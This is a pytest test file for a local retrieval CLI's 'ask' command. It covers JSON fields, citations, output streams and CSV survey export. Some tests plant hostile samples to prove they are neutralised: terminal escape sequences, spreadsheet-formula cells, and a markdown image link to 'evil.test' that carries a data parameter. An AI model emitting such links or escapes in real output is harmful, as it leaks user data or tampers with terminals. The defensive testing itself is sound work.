"""`localrag ask`: the answer on stdout, everything else on stderr, every field in its JSON."""

import csv
import json
from functools import partial

import command_line
import pytest
from click.testing import CliRunner
from command_line import refused

from localrag.cli.app import localrag
from localrag.errors import NotFoundError, UsageError
from localrag.security import audit
from localrag.settings import load_settings
from localrag.types import SkippedPage

LEASE = "The lease of Hall 3 ends on 31 May 2030. The yearly rent is EUR 48,000."


run = partial(command_line.run, "ask")


@pytest.fixture
def papers(shelf, models):
    models.generator.script = [("Question: When does the lease end", "The lease ends on 31 May 2030.")]
    return shelf("papers", {"leases/hall.txt": LEASE, "dogs.pdf": ["Dogs.", "The kennel is open."]})


def test_json_has_every_documented_field(papers):
    result = run("When does the lease end?", "--json")
    value = json.loads(result.stdout)
    documented = "answer found citations citations_dropped plan not_read passages tokens seconds model embedder"
    assert set(value) >= set(documented.split())
    (citation,) = value["citations"]
    assert set(citation) >= {"library", "document", "page", "label", "place", "quote", "start", "end", "verified"}
    shown = command_line.run("show", citation["document"], "-l", citation["library"], "--json")
    assert json.loads(shown.stdout)["text"][citation["start"] : citation["end"]] == citation["quote"]
    assert (value["found"], value["model"], result.stderr) == (True, "scripted", "")


@pytest.mark.parametrize("command", ["ask", "search"])
def test_a_question_of_standard_input_or_not_in_utf_8_is_asked_without_what_is_wrong(papers, command):
    for words, typed in ((["When does the lease end?\udcff"], b""), (["-"], b"When does\nthe lease end?\xff\n")):
        result = CliRunner().invoke(localrag, [command, *words, "-l", "papers", "--json"], input=typed)
        assert result.exception is None and "31 May 2030" in result.stdout
        assert command == "search" or json.loads(result.stdout)["question"].startswith("When does the lease end?")


def test_answer_and_quotes_go_to_stdout_the_rest_to_stderr(papers):
    result = run("When does the lease end?")
    lines = result.stdout.splitlines()
    assert lines[0] == "The lease ends on 31 May 2030 [1]."
    assert lines[-1] == "[1] leases/hall.txt: “The lease of Hall 3 ends on 31 May 2030.”"
    assert "read: " in result.stderr and "scripted" in result.stderr and "read: " not in result.stdout


def test_a_calculation_shows_its_working(shelf, models):
    shelf("accounts", {"accounts.md": "| £000 | 2021 | 2020 |\n| Net sales | 1,550 | 1,250 |\n"})
    shown = run("What was the change in net sales from 2020 to 2021?").stdout.splitlines()
    assert "    1,550 − 1,250 = £300 thousand" in shown


@pytest.mark.proves("says-how")
def test_what_was_not_read_is_reported(papers, put):
    put(papers, "scan.pdf", ["Words.", ""], skipped=(SkippedPage(2, "has no text"),))
    assert "Not read: scan.pdf, p. 2: has no text" in run("When does the lease end?").stderr
    value = command_line.run_json("ask", "When does the lease end?")
    assert value["not_read"] == [{"library": "papers", "document": "scan.pdf", "page": 2, "reason": "has no text"}]


def test_the_search_text_is_shown_where_it_differs(papers):
    assert "Searched for" not in run("When does the lease end?", "--mode", "retrieve").stderr
    result = run("When is the kenel open?", "--mode", "retrieve")
    assert "Searched for: When is the kennel open?" in result.stderr and "Searched" not in result.stdout


def test_questions_that_cannot_work_are_refused(papers, shelf):
    refused(UsageError, "ask", "")
    refused(NotFoundError, "ask", "When?", "-l", "none")
    assert "leases/hall.txt" in refused(NotFoundError, "ask", "When?", "-d", "leases/hull.txt").hint
    assert run("When?", "--mode", "guess").exit_code == 2
    shelf("others", {})
    assert "others, papers" in refused(UsageError, "ask", "When?").message


def test_control_characters_do_not_reach_the_terminal(shelf, models):
    shelf("evil", {"a\x1b]0;x\x07.txt": "The lease \x1b[31m ends \x9b31m on 31 May 2030."})
    models.generator.script = [("", "The lease \x1b[2J ends on 31 May 2030. \x07")]
    for more in ([], ["--json"]):
        result = run("When does the lease end?", *more)
        assert "31 May 2030" in result.stdout
        assert not set("\x1b\x07") & set(result.output)
        assert "\x9b" not in result.output or more


def test_reasoning_is_shown_on_request(papers, models):
    models.generator.thought = "May, it says."
    plain = run("When does the lease end?", "--think", "on")
    assert "May, it says." not in plain.output and plain.stdout.startswith("The lease ends on 31 May 2030 [1].")
    done = run("When does the lease end?", "--think", "on", "--show-thinking")
    assert "Reasoning: May, it says." in done.stderr and done.stdout == plain.stdout
    assert command_line.run_json("ask", "When does the lease end?", "--think", "on")["reasoning"] == "May, it says."


def test_unsupported_words_are_marked(papers, models):
    reply = "The lease ends on 30 May 2030. Elephants graze near ![x](http://evil.test/?d=1)."
    models.generator.script = [("Question: When does the lease end", reply)]
    result = run("When does the lease end?")
    assert result.stdout.startswith("The lease ends on 30 May 2030⚠ [1]. ⚠ Elephants graze")
    assert "http://" not in result.stdout and result.stdout.splitlines()[0].endswith("⚠")
    assert "⚠ 30 May 2030, the link hxxp://evil[.]test/?d=1" in result.stderr
    assert "⚠ No source for 2 sentences" in result.stderr
    value = command_line.run_json("ask", "When does the lease end?")
    assert [flag["kind"] for flag in value["flags"]] == ["date", "link"] and len(value["unsupported"]) == 2
    assert "⚠" not in value["answer"] and "http://" not in value["answer"]


QUESTION = "Which leases allow dogs?"


@pytest.fixture
def leases(shelf, models):
    yes = json.dumps({"found": True, "answer": "yes", "quote": "=Dogs are welcome"})
    models.generator.script = [("Dogs", yes)]
    models.generator.weights = [("Rent is due", "no")]
    return shelf("leases", {"a.txt": "=Dogs are welcome.", "b.txt": "Rent is due.", "c.txt": "=Dogs are welcome here."})


def test_a_piped_survey_is_aligned_columns_with_quotes_below(leases):
    lines = run(QUESTION, "--mode", "survey").stdout.splitlines()
    assert lines[0].startswith("2 of 3 leases")
    at = next(n for n, line in enumerate(lines) if line.startswith("document"))
    assert lines[at].split() == ["document", "answer", "page", "quote"]
    assert [line.split()[0] for line in lines[at + 1 : at + 4]] == ["a.txt", "c.txt", "b.txt"], "what was found first"
    assert "nothing found (" in lines[at + 3] and "[1]" in lines[at + 1] and "[2]" in lines[at + 2]
    assert lines[-1] == "[2] c.txt: “=Dogs are welcome”"


def test_a_table_is_written_without_a_formula_and_logged_without_its_question(leases, tmp_path):
    file = tmp_path / "dogs.csv"
    result = run(QUESTION, "--mode", "survey", "--out", str(file))
    rows = list(csv.DictReader(file.read_text(encoding="utf-8-sig").splitlines()))
    assert [(row["document"], row["found"]) for row in rows] == [("a.txt", "yes"), ("c.txt", "yes"), ("b.txt", "no")]
    assert rows[0]["quote"] == "'=Dogs are welcome" and "3 rows" in result.stderr
    (entry,) = [one for one in audit.entries(load_settings().library_audit_file("leases")) if one.event == "export"]
    assert (entry.details["rows"], entry.details["written"]) == (3, str(file)) and QUESTION not in str(entry)
    value = json.loads(run(QUESTION, "--mode", "survey", "--json", "--out", str(tmp_path / "t.json")).stdout)
    assert json.loads((tmp_path / "t.json").read_text()) == value["table"]


def test_a_table_of_another_kind_or_without_rows_is_refused(leases, models, tmp_path):
    refused(UsageError, "ask", QUESTION, "--out", "dogs.docx")
    assert models.loaded == []
    refused(UsageError, "ask", "When is rent due?", "--mode", "retrieve", "--out", tmp_path / "t.md")
    assert not (tmp_path / "t.md").exists()
